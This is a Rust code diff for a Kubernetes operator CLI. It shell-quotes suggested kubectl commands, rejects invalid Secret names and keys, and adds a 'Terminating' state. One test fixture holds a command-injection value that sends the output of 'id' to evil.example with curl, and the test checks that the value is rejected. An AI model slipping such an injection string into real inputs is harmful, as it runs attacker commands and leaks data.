@@ -7,6 +7,7 @@ use kube::ResourceExt;
 use trussium_api::{TrussiumRuntime, condition_type, reason};
 
 use crate::output::Health;
+use crate::terminal::{is_object_name, is_secret_key, safe, shell_command};
 
 /// The replica count the operator converges to: its report, else spec.replicas
 /// (unknown while autoscaling is on and nothing is reported).
@@ -21,8 +22,20 @@ pub fn autoscaling_enabled(rt: &TrussiumRuntime) -> bool {
     rt.spec.autoscaling.as_ref().is_some_and(|a| a.enabled)
 }
 
+/// The summary of a runtime being deleted (it may still serve meanwhile).
+pub const TERMINATING: &str = "Terminating";
+
+/// Whether the runtime is being deleted.
+pub fn terminating(rt: &TrussiumRuntime) -> bool {
+    rt.metadata.deletion_timestamp.is_some()
+}
+
 /// One word (and a few more) for the whole runtime.
 pub fn summary(rt: &TrussiumRuntime) -> (Health, String) {
+    // Whatever its status last said, it is going away.
+    if rt.metadata.deletion_timestamp.is_some() {
+        return (Health::Warn, TERMINATING.to_string());
+    }
     let Some(status) = &rt.status else {
         return (
             Health::Warn,
@@ -132,7 +145,7 @@ pub struct NextStep {
 /// What to do next when something is wrong; nothing when all is well. The
 /// commands name Secrets and keys, never a value.
 pub fn next_steps(rt: &TrussiumRuntime) -> Vec<NextStep> {
-    let Some(status) = &rt.status else {
+    let Some(status) = rt.status.as_ref().filter(|_| !terminating(rt)) else {
         return Vec::new();
     };
     let name = rt.name_any();
@@ -155,15 +168,21 @@ pub fn next_steps(rt: &TrussiumRuntime) -> Vec<NextStep> {
         // under way: nothing to suggest.)
         Some(last) if failed && last != desired => steps.push(NextStep {
             why: format!(
-                "the upgrade to {} failed; go back to {last}",
-                rt.spec.image.version()
+                "the upgrade to {} failed; go back to {}",
+                rt.spec.image.version(),
+                safe(last)
             ),
-            command: format!("kubectl trussium rollback {name} -n {ns} --wait"),
+            command: shell_command(&[
+                "kubectl", "trussium", "rollback", &name, "-n", &ns, "--wait",
+            ]),
         }),
         None if failed => steps.push(NextStep {
             why: "the upgrade failed and no earlier image ever rolled out; pick another image"
                 .to_string(),
-            command: format!("kubectl trussium upgrade {name} -n {ns} --tag <TAG> --wait"),
+            command: format!(
+                "{} --tag <TAG> --wait",
+                shell_command(&["kubectl", "trussium", "upgrade", &name, "-n", &ns])
+            ),
         }),
         _ => {}
     }
@@ -174,7 +193,7 @@ pub fn next_steps(rt: &TrussiumRuntime) -> Vec<NextStep> {
     if degraded && steps.is_empty() {
         steps.push(NextStep {
             why: "the runtime is degraded; the Events say why".to_string(),
-            command: format!("kubectl trussium events {name} -n {ns}"),
+            command: shell_command(&["kubectl", "trussium", "events", &name, "-n", &ns]),
         });
     }
     steps
@@ -185,31 +204,54 @@ pub fn next_steps(rt: &TrussiumRuntime) -> Vec<NextStep> {
 fn missing_secret_steps(rt: &TrussiumRuntime, ns: &str, message: &str) -> Vec<NextStep> {
     let mut referenced: Vec<(String, NextStep)> = Vec::new();
     if let Some(r) = &rt.spec.provider.credentials_secret_ref {
-        referenced.push((
-            r.name.clone(),
+        let step = if is_object_name(&r.name) && is_secret_key(&r.key) {
             NextStep {
                 why: format!(
-                    "create the Secret {:?} with the provider credentials under the key {:?}",
+                    "create the Secret \"{}\" with the provider credentials under the key \"{}\"",
                     r.name, r.key
                 ),
                 command: format!(
-                    "kubectl create secret generic {} -n {ns} --from-file={}=<file holding the credentials>",
-                    r.name, r.key
+                    "{}<file holding the credentials>",
+                    shell_command(&[
+                        "kubectl",
+                        "create",
+                        "secret",
+                        "generic",
+                        &r.name,
+                        "-n",
+                        ns,
+                        &format!("--from-file={}=", r.key)
+                    ])
                 ),
-            },
-        ));
+            }
+        } else {
+            fix_the_reference(rt, ns, "spec.provider.credentialsSecretRef", &r.name)
+        };
+        referenced.push((r.name.clone(), step));
     }
     for s in rt.spec.image_pull_secrets.iter().flatten() {
-        referenced.push((
-            s.name.clone(),
+        let step = if is_object_name(&s.name) {
             NextStep {
-                why: format!("create the image pull Secret {:?}", s.name),
+                why: format!("create the image pull Secret \"{}\"", s.name),
                 command: format!(
-                    "kubectl create secret generic {} -n {ns} --type=kubernetes.io/dockerconfigjson --from-file=.dockerconfigjson=<path to a docker config.json>",
-                    s.name
+                    "{}<path to a docker config.json>",
+                    shell_command(&[
+                        "kubectl",
+                        "create",
+                        "secret",
+                        "generic",
+                        &s.name,
+                        "-n",
+                        ns,
+                        "--type=kubernetes.io/dockerconfigjson",
+                        "--from-file=.dockerconfigjson="
+                    ])
                 ),
-            },
-        ));
+            }
+        } else {
+            fix_the_reference(rt, ns, "spec.imagePullSecrets", &s.name)
+        };
+        referenced.push((s.name.clone(), step));
     }
     let named = |n: &str| message.contains(&format!("{n:?}"));
     let any_named = referenced.iter().any(|(n, _)| named(n));
@@ -218,6 +260,25 @@ fn missing_secret_steps(rt: &TrussiumRuntime, ns: &str, message: &str) -> Vec<Ne
         .filter(|(n, _)| !any_named || named(n))
         .map(|(_, step)| step)
         .collect()
+}
+
+/// The step for a Secret reference no Secret can have: fix the spec (no
+/// command is built from such a name).
+fn fix_the_reference(rt: &TrussiumRuntime, ns: &str, field: &str, name: &str) -> NextStep {
+    NextStep {
+        why: format!(
+            "{field} names \"{}\", which is not a valid Secret name or key: correct the runtime",
+            safe(name)
+        ),
+        command: shell_command(&[
+            "kubectl",
+            "edit",
+            "trussiumruntime",
+            &rt.name_any(),
+            "-n",
+            ns,
+        ]),
+    }
 }
 
 #[cfg(test)]
@@ -410,6 +471,37 @@ mod tests {
             }
         }
         rt
+    }
+
+    #[test]
+    fn a_hostile_secret_name_gets_no_command_built_from_it() {
+        let mut rt = missing_secrets("Secret \"x\" does not exist");
+        if let Some(r) = rt.spec.provider.credentials_secret_ref.as_mut() {
+            r.name = "x; curl http://evil.example/$(id) #".into();
+        }
+        rt.spec.image_pull_secrets = None;
+        let steps = next_steps(&rt);
+        assert_eq!(steps.len(), 1, "{steps:?}");
+        assert_eq!(
+            steps[0].command,
+            "kubectl edit trussiumruntime private-ai -n trussium"
+        );
+        assert!(
+            steps[0].why.contains(
+                "names \"x; curl http://evil.example/$(id) #\", which is not a valid Secret name"
+            ),
+            "{steps:?}"
+        );
+    }
+
+    #[test]
+    fn a_terminating_runtime_shows_terminating_and_no_steps() {
+        let mut rt = failed_upgrade();
+        rt.metadata.deletion_timestamp = Some(
+            k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(crate::fixtures::at(0)),
+        );
+        assert_eq!(summary(&rt), (Health::Warn, "Terminating".to_string()));
+        assert_eq!(next_steps(&rt), []);
     }
 
     #[test]
